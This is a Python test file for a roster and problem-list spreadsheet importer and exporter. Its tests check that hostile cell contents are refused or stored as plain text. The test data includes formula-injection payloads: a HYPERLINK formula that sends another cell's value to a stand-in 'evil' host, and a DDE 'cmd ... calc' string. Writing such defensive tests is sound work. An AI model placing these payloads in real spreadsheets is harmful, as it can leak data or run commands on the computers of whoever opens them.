"""Cell contents: hidden characters, formulas, lengths, ranges refused; exports keep text text."""

from __future__ import annotations

import datetime
import subprocess
import sys
import zipfile

import pytest
import xlwt
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select, update

from desktop.models.problem import Problem
from desktop.models.registry import Household, Member
from desktop.services.problems.importer import COLUMNS as PROBLEM_COLUMNS
from desktop.services.problems.importer import ProblemImporter
from desktop.services.roster.export import export_roster
from desktop.services.roster.importer import import_roster
from desktop.services.roster.template import HEADERS
from desktop.services.unit_of_work import Database
from desktop.services.workbooks.sanitise import safe_row
from tests import hostile_files
from tests.problem_fixtures import service
from tests.roster_samples import clean_rows, write_xls, write_xlsx


def households(engine) -> int:
    with engine.connect() as conn:
        return conn.execute(select(func.count(Household.id))).scalar()


def xml_roster(path, rows, raw=None):
    """Write rows (dicts) as sheet XML by hand; `raw` maps (row index, header) → cell XML."""
    raw = raw or {}
    body = hostile_files.header_row()
    for i, row in enumerate(rows):
        r = i + 2
        cells = ""
        for c, header in enumerate(HEADERS):
            ref = f"{hostile_files._column(c)}{r}"
            if (i, header) in raw:
                cells += f'<c r="{ref}"{raw[(i, header)]}</c>'
            elif row.get(header, "") != "":
                cells += hostile_files._text_cell(ref, str(row[header]))
        body += f'<row r="{r}">{cells}</row>'
    return hostile_files.write_parts(path, hostile_files.sheet_xml(body))


def errors_at(result, header):
    return [e for e in result.errors if e.field == header]


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("张\x07三", ["控制字符", "U+0007"]),
        ("张\u202e三", ["方向覆盖符", "U+202E"]),
        ("张\u200b三", ["零宽空格"]),
        ('=HYPERLINK("http://x/?"&I2,"点击")', ["不能以“=”开头", "公式"]),
        ("@SUM(1)", ["不能以“@”开头"]),
        ("x" * 100_000, ["个字", "最多 40 个字"]),
    ],
    ids=["bel", "rlo", "zwsp", "hyperlink", "at", "long"],
)
def test_hostile_names_are_row_errors(tmp_path, engine, name, words):
    rows = clean_rows()
    rows[1]["姓名"] = name
    # openpyxl refuses control characters and .xls cells stop at 32,767 characters
    if len(name) < 30_000:
        source = write_xls(tmp_path / "r.xls", rows)
    else:
        source = write_xlsx(tmp_path / "r.xlsx", rows)
    result = import_roster(Database(engine), source)
    assert not result.written and households(engine) == 0
    found = errors_at(result, "姓名")
    assert found and found[0].row == 3, [e.text() for e in result.errors]
    for word in words:
        assert word in found[0].message
    assert "\x07" not in found[0].text() and "\u202e" not in found[0].text()
    assert len(found[0].text()) < 300


def test_xlsx_escaped_control_character_is_refused(tmp_path, engine):
    rows = clean_rows()
    raw = {(0, "姓名"): ' t="inlineStr"><is><t>张_x0007_三</t></is>'}
    result = import_roster(Database(engine), xml_roster(tmp_path / "r.xlsx", rows, raw))
    assert not result.written
    assert "控制字符" in errors_at(result, "姓名")[0].message


@pytest.mark.parametrize(
    ("header", "value", "word"),
    [
        ("联系电话", "=1+1", "联系电话"),
        ("联系电话", "cmd|' /C calc'!A0", "联系电话应为数字"),
        ("户编号", "H" * 32_767, "最多 40 个字"),
        ("乡镇", "桃" * 32_000, "最多 30 个字"),
        ("村", "=HYPERLINK(1)", "不能以“=”开头"),
        ("人均纯收入", 1e300, "不合常理"),
        ("户编号", datetime.datetime(2020, 5, 1), "日期格式"),
        ("姓名", datetime.datetime(2020, 5, 1), "日期格式"),
        ("脱贫年度", "9999", "2014—2020年"),
        ("人均纯收入", -5, "不小于0"),
    ],
    ids=[
        "phone-formula",
        "phone-dde",
        "code-long",
        "township-long",
        "village-formula",
        "income-huge",
        "code-date",
        "name-date",
        "exit-year-9999",
        "income-negative",
    ],
)
def test_fields_have_types_lengths_and_ranges(tmp_path, engine, header, value, word):
    rows = clean_rows()
    for row in rows[:3]:  # the whole of household H001, so that it stays one household
        row[header] = value
    if isinstance(value, str) and value.startswith("="):  # a text cell, as typed after a '
        source = xml_roster(tmp_path / "r.xlsx", rows)
    else:
        source = write_xlsx(tmp_path / "r.xlsx", rows)
    result = import_roster(Database(engine), source)
    assert not result.written and households(engine) == 0
    assert any(word in e.message for e in errors_at(result, header)), [
        e.text() for e in result.errors
    ]


def test_plausible_values_still_import(tmp_path, engine):
    rows = clean_rows()
    for row in rows[:3]:
        row["联系电话"] = "+86 138-0000-0000"
    rows[5]["联系电话"] = 13900000000.0
    rows[1]["姓名"] = "阿卜杜热合曼·买买提"
    result = import_roster(Database(engine), write_xlsx(tmp_path / "r.xlsx", rows))
    assert result.written, result.summary_lines()


def test_formula_without_saved_value_gets_its_own_message(tmp_path, engine):
    rows = clean_rows()
    raw = {
        (1, "姓名"): '><f>CONCATENATE("李","梅")</f>',
        (5, "联系电话"): "><f>A1</f><v></v>",  # optional, but it would silently be empty
    }
    result = import_roster(Database(engine), xml_roster(tmp_path / "r.xlsx", rows, raw))
    assert not result.written
    for header, row in (("姓名", 3), ("联系电话", 7)):
        found = errors_at(result, header)
        assert found and found[0].row == row, [e.text() for e in result.errors]
        assert "公式" in found[0].message and "保存后再导入" in found[0].message


def run_import(*argv):
    """Run `huitoukan <argv>` in a fresh interpreter; no traceback may reach the user."""
    done = subprocess.run(
        [sys.executable, "-m", "desktop", *map(str, argv)],
        capture_output=True, encoding="utf-8", timeout=120,
    )  # fmt: skip
    assert "Traceback" not in done.stdout + done.stderr, done
    return done


def rows_in(db_path, model) -> int:
    """Count a table's rows in a closed database file."""
    from desktop.models.database import open_database

    engine = open_database(db_path)
    try:
        with engine.connect() as conn:
            return conn.execute(select(func.count(model.id))).scalar()
    finally:
        engine.dispose()


def test_rejected_import_with_report_commits_nothing(tmp_path, db_path):
    rows = clean_rows()
    rows[2]["姓名"] = "张\x07小明"
    source = write_xls(tmp_path / "r.xls", rows)
    report = tmp_path / "report.xlsx"
    done = run_import("roster", "import", source, "--db", db_path, "--report", report)
    assert done.returncode == 1 and "[U+0007]" in done.stdout, done
    assert report.exists() and rows_in(db_path, Household) == 0


def test_skipped_rows_with_report_commit_the_rest_and_exit_0(tmp_path, db_path):
    """What is written and the exit code agree: the report of skipped rows is written whole
    (control character and all) and the command says the import happened."""
    rows = clean_rows()
    rows[2]["姓名"] = "张\x07小明"  # H001 is skipped, H002 and H003 are written
    source = write_xls(tmp_path / "r.xls", rows)
    report = tmp_path / "report.xlsx"
    done = run_import(
        "roster", "import", source, "--db", db_path, "--skip-invalid", "--report", report
    )
    assert done.returncode == 0, done
    notes = [r[-1] for r in load_workbook(report).worksheets[0].values]
    assert any("控制字符" in str(n) for n in notes)
    assert rows_in(db_path, Household) == 2


def test_rejected_problem_list_with_report_commits_nothing(tmp_path, db_path):
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("问题清单")
    values = {"发现日期": "2020-05-06", "问题来源": "自查", "问题描述": "住房\x07漏雨",
              "整改类型": "立行立改"}  # fmt: skip
    for c, h in enumerate(PROBLEM_COLUMNS):
        sheet.write(0, c, h)
        sheet.write(1, c, values.get(h, ""))
    book.save(str(tmp_path / "p.xls"))
    report = tmp_path / "report.xlsx"
    done = run_import("problems", "import", tmp_path / "p.xls", "--db", db_path, "--report", report)
    assert done.returncode == 1 and "[U+0007]" in done.stdout, done
    assert report.exists() and rows_in(db_path, Problem) == 0


def sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(
            z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")
        )


def test_roster_export_writes_text_as_text(tmp_path, engine):
    assert import_roster(Database(engine), write_xlsx(tmp_path / "r.xlsx", clean_rows())).written
    payload = '=HYPERLINK("http://evil/?"&I2,"点击")'
    with engine.begin() as conn:  # as an older version, or another program, may have stored
        conn.execute(update(Member).where(Member.name == "李梅").values(name=payload))
        conn.execute(update(Member).where(Member.name == "张小明").values(name="张\x07小明"))
        conn.execute(update(Household).where(Household.code == "H002").values(phone="-2+3"))
    out = tmp_path / "out.xlsx"
    assert export_roster(Database(engine), out, full_ids=True) == 6
    assert "<f>" not in sheet_xml(out)
    values = [c for row in load_workbook(out).worksheets[0].values for c in row]
    assert payload in values and "张小明" in values and "-2+3" in values


def test_audit_export_survives_control_characters(tmp_path, engine):
    from desktop.services.actor import CurrentUser
    from desktop.services.context import AppServices

    service_ = AppServices(engine=engine, user=CurrentUser("管理员", "admin", 1)).audit
    service_.log_export("household", 1, tmp_path / "x\x07.xlsx", full_ids=False)
    out = tmp_path / "audit.xlsx"
    assert service_.export_xlsx(out) >= 1
    assert "<f>" not in sheet_xml(out)


def test_safe_row_keeps_plain_values_and_makes_formulas_text(tmp_path):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    plain = ["张三", 12.5, None, datetime.date(2020, 1, 1), "13800000000"]
    assert safe_row(ws, plain) == plain
    ws.append(safe_row(ws, ["=1+1", "+1", "@A1", "\tx", "a\x00b"]))
    wb.save(tmp_path / "s.xlsx")
    assert "<f>" not in sheet_xml(tmp_path / "s.xlsx")
    row = next(load_workbook(tmp_path / "s.xlsx").active.values)
    assert row == ("=1+1", "+1", "@A1", "\tx", "ab")


def _problem_file(path, description, found="2020-05-06"):
    wb = Workbook()
    ws = wb.active
    ws.append(list(PROBLEM_COLUMNS))
    row = {"发现日期": found, "问题来源": "自查", "村": "花园村", "问题描述": description,
           "整改类型": "立行立改"}  # fmt: skip
    ws.append([row.get(c) for c in PROBLEM_COLUMNS])
    wb.save(path)
    return path


@pytest.mark.parametrize(
    ("description", "found", "word"),
    [
        ("住房\x07漏雨", "2020-05-06", "控制字符"),
        ("住房漏雨" * 600, "2020-05-06", "最多 2000 个字"),
        ("住房漏雨", "9999-01-01", "不合常理"),
    ],
    ids=["bel", "long", "year-9999"],
)
def test_problem_list_cells_are_checked(demo_engine, data_dir, tmp_path, description, found, word):
    ps = service(demo_engine, data_dir)
    if "\x07" not in description:
        path = _problem_file(tmp_path / "p.xlsx", description, found)
    else:  # openpyxl cannot write it; an .xls can carry it
        book = xlwt.Workbook(encoding="utf-8")
        sheet = book.add_sheet("问题清单")
        for c, h in enumerate(PROBLEM_COLUMNS):
            sheet.write(0, c, h)
        values = {"发现日期": found, "问题来源": "自查", "问题描述": description,
                  "整改类型": "立行立改"}  # fmt: skip
        for c, h in enumerate(PROBLEM_COLUMNS):
            if h in values:
                sheet.write(1, c, values[h])
        path = tmp_path / "p.xls"
        book.save(str(path))
    with demo_engine.connect() as conn:
        before = conn.execute(select(func.count(Problem.id))).scalar()
    result = ProblemImporter(ps).run(path, "刘芳")
    assert not result.ok
    assert any(word in e.message for e in result.errors), [e.text() for e in result.errors]
    assert all(len(e.text()) < 300 for e in result.errors)  # a long cell is named, not repeated
    with demo_engine.connect() as conn:
        assert conn.execute(select(func.count(Problem.id))).scalar() == before
